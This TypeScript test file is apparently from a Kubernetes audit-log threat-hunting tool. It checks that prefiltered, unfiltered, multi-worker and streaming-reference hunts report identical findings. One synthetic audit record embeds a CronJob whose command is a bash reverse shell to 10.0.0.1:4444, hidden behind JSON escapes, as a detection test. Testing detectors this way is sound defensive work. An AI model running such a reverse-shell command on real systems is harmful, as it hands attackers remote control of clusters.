/**
 * The fast path must never change what `hunt` finds. Every corpus beside the repository
 * (`../shared/data/real`) and every ingest fixture is hunted with the prefilter on and off,
 * and through ingest's streaming reader (the reference path); findings must be identical.
 * A generated log adds volume, Go-style `\u0026` escapes, escaped literals and case variants,
 * and checks that 1 and 3 workers give the same report.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { generateAuditLog } from '../bench/audit-log.lib.js';
import { LineageObserver } from '../src/correlate/lineage-observer.js';
import type { Finding } from '../src/finding.js';
import { loadDetector } from '../src/hunt/detector.js';
import { hunt } from '../src/hunt.js';
import { readEvents } from '../src/ingest/read-events.js';
import { loadAllowlist } from '../src/rules/allowlist.js';
import { REPO_ROOT, sharedPath, skipUnlessShared } from './shared-data.js';

const CORPORA = [
  'falco-k8s-audit-traces',
  'kube-audit-rest',
  'panther-k8s-rule-fixtures',
  'elastic-integrations',
  'atomic-red-team-T1053.007',
];
const FIXTURES = ['k8s-audit', 'aks', 'eks', 'gke', 'azure'].map((name) =>
  join(REPO_ROOT, 'test', 'fixtures', name),
);

const dir = mkdtempSync(join(tmpdir(), 'cw-hunt-diff-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** Findings as comparable data (no object identity, no undefined keys). */
function plain(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value));
}

async function reference(paths: readonly string[]): Promise<unknown> {
  const detector = loadDetector();
  const observe = detector.startAnalytics();
  // Lineage sees every event here (not only those its hunt scope keeps): the scope must be exact.
  const lineage = new LineageObserver(loadAllowlist());
  // Per input: the single-event rules' findings, then the stateful analytics' (docs/cli.md),
  // each in record order; a stable sort by position then interleaves them by record.
  const byFile = new Map<string, { rules: Finding[]; analytics: Finding[] }>();
  for await (const event of readEvents(paths, {})) {
    const lists = byFile.get(event.origin.file) ?? { rules: [], analytics: [] };
    byFile.set(event.origin.file, lists);
    const onEvent: Finding[] = [];
    detector.detect(event, (finding) => onEvent.push(finding));
    lists.rules.push(...onEvent);
    if (detector.needsForAnalytics(event)) lists.analytics.push(...observe(event, onEvent));
    lineage.observe(event);
  }
  const ordered = [...byFile.values()].flatMap(({ rules, analytics }) =>
    [...rules, ...analytics]
      .map((finding, i) => ({
        finding,
        i,
        at:
          finding.origin && 'line' in finding.origin
            ? finding.origin.line
            : (finding.origin?.index ?? Infinity),
      }))
      .sort((a, b) => a.at - b.at || a.i - b.i)
      .map((entry) => entry.finding),
  );
  const { findings, incidents } = lineage.correlate(ordered);
  return plain({ findings, incidents });
}

/** What the reference returns for a hunt result. */
function outcome(result: Awaited<ReturnType<typeof hunt>>): unknown {
  return plain({ findings: result.report.findings, incidents: result.report.incidents });
}

for (const corpus of CORPORA) {
  test(`${corpus}: prefilter on and off and the streaming reader find the same`, {
    skip: skipUnlessShared('data', 'real', corpus),
  }, async () => {
    const paths = [sharedPath('data', 'real', corpus)];
    const on = await hunt({ paths, prefilter: true });
    const off = await hunt({ paths, prefilter: false });
    assert.deepEqual(outcome(on), outcome(off));
    assert.deepEqual(outcome(off), await reference(paths));
  });
}

test('ingest fixtures: prefilter on and off and the streaming reader find the same', async () => {
  const paths = FIXTURES.filter((path) => readdirSync(path).length > 0);
  const on = await hunt({ paths, prefilter: true });
  const off = await hunt({ paths, prefilter: false });
  assert.deepEqual(outcome(on), outcome(off));
  assert.deepEqual(outcome(off), await reference(paths));
});

let generated = '';
before(async () => {
  generated = join(dir, 'generated.log');
  await generateAuditLog(generated, 12_000_000, 42);
  // Records the generator never writes: literals hidden behind JSON escapes and case.
  const tricky = [
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"t-1","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/cron\\u006aobs","verb":"create","user":{"username":"mallory"},"objectRef":{"resource":"cron\\u006aobs","namespace":"x","name":"e1","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"kind":"CronJob","apiVersion":"batch\\/v1","metadata":{"name":"e1"},"spec":{"schedule":"*\\/1 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"busybox:latest","command":["sh","-c","bash -i >& \\/dev\\/tcp\\/10.0.0.1\\/4444 0>&1"]}]}}}}}},"requestReceivedTimestamp":"2024-05-01T10:00:00.000000Z","stageTimestamp":"2024-05-01T10:00:00.010000Z"}',
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"t-2","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/CRONJOBS","verb":"create","user":{"username":"mallory"},"objectRef":{"resource":"CronJobs","namespace":"x","name":"e2","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestReceivedTimestamp":"2024-05-01T10:00:01.000000Z","stageTimestamp":"2024-05-01T10:00:01.010000Z"}',
    // The verb (a non-anchor clause of the prefilter's AND of ORs) behind an escape.
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"t-3","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/jobs","verb":"cr\\u0065ate","user":{"username":"mallory"},"objectRef":{"resource":"jobs","namespace":"x","name":"e3","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestReceivedTimestamp":"2024-05-01T10:00:02.000000Z","stageTimestamp":"2024-05-01T10:00:02.010000Z"}',
  ];
  writeFileSync(join(dir, 'tricky.log'), `${tricky.join('\n')}\n`);
});

test('generated log: prefilter on/off, 1 and 3 workers, and the reference agree', async () => {
  const paths = [generated, join(dir, 'tricky.log')];
  const base = await hunt({ paths, prefilter: false });
  assert.ok(
    base.report.findings.length > 50,
    `the generated log has findings (${base.report.findings.length})`,
  );
  const tricky = base.report.findings.filter((f) => f.origin?.file.endsWith('tricky.log'));
  assert.ok(
    new Set(tricky.map((f) => (f.origin && 'line' in f.origin ? f.origin.line : 0))).size >= 3,
    'the escaped and upper-case records are found',
  );
  const on = await hunt({ paths, prefilter: true });
  assert.ok(
    on.decodedLines < on.lines / 4,
    `the prefilter skips most lines (${on.decodedLines}/${on.lines})`,
  );
  assert.deepEqual(outcome(on), outcome(base));
  const split = await hunt({ paths, prefilter: true, workers: 3 });
  assert.deepEqual(outcome(split), outcome(base));
  assert.equal(split.report.summary.records, on.report.summary.records);
  assert.deepEqual(outcome(base), await reference(paths));
});

test('SigmaHQ Kubernetes audit rules through the k8s pipeline: prefilter on and off agree', {
  skip: skipUnlessShared('data', 'real', 'sigmahq-rules'),
}, async () => {
  const options = {
    paths: [
      sharedPath('data', 'real', 'falco-k8s-audit-traces'),
      generated,
      join(dir, 'tricky.log'),
    ],
    sigma: [
      sharedPath('data', 'real', 'sigmahq-rules', 'rules', 'application', 'kubernetes', 'audit'),
    ],
    pipelines: [join(REPO_ROOT, 'test', 'fixtures', 'pipelines', 'k8s-audit.yml')],
  };
  const on = await hunt({ ...options, prefilter: true });
  const off = await hunt({ ...options, prefilter: false });
  assert.ok(
    on.report.rules.some((rule) => rule.source === 'sigma'),
    'the SigmaHQ rules loaded',
  );
  assert.ok(
    on.report.findings.some((f) => f.rule.source === 'sigma'),
    'and fire',
  );
  assert.deepEqual(outcome(on), outcome(off));
});
